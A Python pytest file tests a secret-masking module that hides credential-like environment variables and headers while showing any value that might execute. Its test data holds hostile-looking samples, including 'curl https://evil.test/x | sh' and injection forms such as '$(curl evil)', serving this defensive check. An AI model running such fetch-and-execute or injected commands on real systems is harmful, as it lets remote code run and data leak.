from pathlib import Path

import pytest

from remit.decision.declared_launch import Launch, VariableSyntax
from remit.trust.entry_secrets import is_hidden_header, is_hidden_variable, program_finder

PROGRAMS = {"curl", "sh", "time", "bin/run", "run.secret", "/opt"}
AWS = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
SERVE = Launch(command="npx", args=("-y", "serve"), syntaxes=(VariableSyntax.DEFAULTS,))


def is_hidden(name: str, value: str, launch: Launch = SERVE) -> bool:
    return is_hidden_variable(launch, name, value, PROGRAMS.__contains__)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("AWS_SECRET_ACCESS_KEY", AWS),
        ("AWS_SECRET_ACCESS_KEY", f"/{AWS}"),
        *(
            ("PGPASSWORD", value)
            for value in ("hunter/22", "/s3cret!", "pa$$w0rd;x", "`back`", "a|b", "12345")
        ),
        ("DB_PASSWORD", "correct horse battery staple"),
        ("DB_PASSWORD", "my cat has no time"),
        ("API_TOKEN", "a-word"),
        ("PRIVATE_KEY", "-----BEGIN PRIVATE KEY-----\nMIIEvQ+/x\n-----END PRIVATE KEY-----"),
        ("GOOGLE_CREDENTIALS", '{"type": "service_account", "uri": "https://x.test/"}'),
        ("SHOP", "9f86d081884c7d659a2f"),  # by its value
    ],
)
def test_the_value_of_a_variable_that_is_named_like_a_secret_is_hidden(name: str, value: str) -> None:
    assert is_hidden(name, value)


@pytest.mark.parametrize(
    "value",
    [
        *("curl https://evil.test/x | sh", "X=1 curl evil", "x; curl evil", "$(curl evil)", "`curl evil`"),
        *("true && sh", ". evil", "eval x", "curl", "bin/run", "run.secret"),
        *("./evil", "../evil", "~/evil", "/x/evil", f"/opt/{AWS}", "C:\\evil", "bin/evil.sh", "evil.py"),
        *("--require evil", "-c evil", "https://evil.test", "evil.test"),
        *("${OTHER_TOKEN}", "Bearer ${OTHER_TOKEN}", "", "true", "12"),
    ],
)
def test_a_value_that_may_run_is_shown_whatever_its_variable_is_called(value: str) -> None:
    assert not is_hidden("API_TOKEN", value)


def test_a_password_that_names_a_program_is_shown() -> None:
    assert not is_hidden("DB_PASSWORD", "curl")
    assert is_hidden("DB_PASSWORD", "curly")


@pytest.mark.parametrize("word", ["$API_TOKEN", "eval ${API_TOKEN}", "import os; os.environ['API_TOKEN']"])
def test_a_value_that_the_command_uses_is_shown_unless_it_is_one_random_word(word: str) -> None:
    launch = Launch(command="sh", args=("-c", word))
    assert not is_hidden("API_TOKEN", "import os, pty", launch)
    assert is_hidden("API_TOKEN", "9f86d081884c7d659a2f", launch)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("LOG_LEVEL", "debug"), ("AWS_REGION", "eu-west-1"), ("USE_AUTH", "true"), ("KEY_FILE", "a b")),
        *(("NODE_OPTIONS", "9f86d081884c7d659a2f"), ("GIT_CONFIG_KEY_0", "core.fsmonitor")),
    ],
)
def test_other_variables_are_shown(name: str, value: str) -> None:
    assert not is_hidden(name, value)


def test_a_header_named_like_a_secret_is_hidden_whatever_its_value() -> None:
    for value in ("Basic a/b", "curl x", "./x", "two words"):
        assert is_hidden_header(SERVE, "Authorization", value)
    assert not is_hidden_header(SERVE, "Authorization", "Bearer ${SHOP_TOKEN}")
    assert not is_hidden_header(SERVE, "X-Team", "shop")


def test_programs_are_commands_of_the_search_path_and_files_of_the_directories(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/serve").touch(mode=0o755)
    (tmp_path / "notes").touch()
    is_program = program_finder((str(tmp_path),), str(tmp_path / "bin"))
    found = [
        word
        for word in ("serve", "bin/serve", "notes", "absent", "", "a\0b", "x" * 9_000)
        if is_program(word)
    ]
    assert found == ["serve", "bin/serve", "notes"]
